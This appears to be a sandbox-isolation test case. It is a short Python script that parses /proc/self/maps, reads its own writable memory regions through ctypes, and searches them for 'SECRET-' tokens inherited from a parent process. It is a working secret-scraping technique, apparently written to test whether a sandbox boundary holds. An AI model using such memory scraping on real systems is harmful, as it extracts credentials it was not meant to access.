"""Scans its own memory, which was inherited from the process that it was forked from.

ids: B15 A06
wants: secret
claimed: boundary only, full sandbox
"""
# %% cell
import ctypes
import re

for line in open("/proc/self/maps"):
    start, stop = (int(x, 16) for x in line.split()[0].split("-"))
    if line.split()[1].startswith("rw") and stop - start < 1 << 28:
        print(set(re.findall(b"SECRET" + b"-[0-9a-f]{32}", ctypes.string_at(start, stop - start))))
